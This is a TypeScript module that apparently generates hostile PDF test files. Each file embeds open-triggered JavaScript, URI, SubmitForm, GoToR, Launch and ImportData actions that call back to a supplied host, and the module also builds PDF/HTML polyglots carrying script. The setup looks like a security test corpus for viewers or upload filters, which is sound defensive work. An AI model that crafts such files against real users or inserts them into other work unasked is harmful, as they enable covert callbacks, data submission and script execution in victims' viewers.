import { type Body, filesOf, page, script } from './hostile-file.ts';

/** What a viewer does when it opens the document (ISO 32000-1, section 12.6). */
const actions: Body[] = [
  (hit) =>
    `<</S/JavaScript/JS(app.launchURL\\("${hit}/launch"\\);this.submitForm\\("${hit}/submit"\\);app.alert\\(1\\))>>`,
  (hit) => `<</S/JavaScript/JS(try{${escaped(script(hit))}}catch\\(e\\){})>>`,
  (hit) => `<</S/URI/URI(${hit}/uri)>>`,
  (hit) => `<</S/URI/URI(javascript:${escaped(script(hit))})>>`,
  (hit) => `<</S/SubmitForm/F<</FS/URL/F(${hit}/form)>>>>`,
  (hit) => `<</S/GoToR/F<</FS/URL/F(${hit}/remote)>>/D[0/Fit]>>`,
  (hit) => `<</S/Launch/F<</FS/URL/F(${hit}/launch)>>>>`,
  (hit) => `<</S/ImportData/F<</FS/URL/F(${hit}/data)>>>>`,
];

export const pdfs = [
  ...filesOf(
    'letter',
    'pdf',
    'application/pdf',
    actions.map((action) => (hit) => documentWith(action(hit).toString())),
  ),
  ...filesOf('mixed', 'pdf', 'application/pdf', [
    (hit) => `${page(hit)}\n${documentWith('<<>>')}`,
    (hit) => `${documentWith('<<>>')}\n${page(hit)}`,
    (hit) => `%PDF-<html><script>${script(hit)}</script></html>`,
  ]),
];

function escaped(text: string): string {
  return text.replaceAll(/[()\\]/g, '\\$&');
}

function documentWith(action: string): string {
  const objects = [
    `1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction ${action}/AA<</WC ${action}>>>>endobj\n`,
    '2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n',
    `3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 99 99]/AA<</O ${action}>>>>endobj\n`,
  ];
  const head = '%PDF-1.4\n';
  let at = head.length;
  const offsets = objects.map((object) => {
    const offset = at;
    at += object.length;
    return `${String(offset).padStart(10, '0')} 00000 n \n`;
  });
  return `${head}${objects.join('')}xref\n0 4\n0000000000 65535 f \n${offsets.join('')}trailer<</Size 4/Root 1 0 R>>\nstartxref\n${at}\n%%EOF\n`;
}
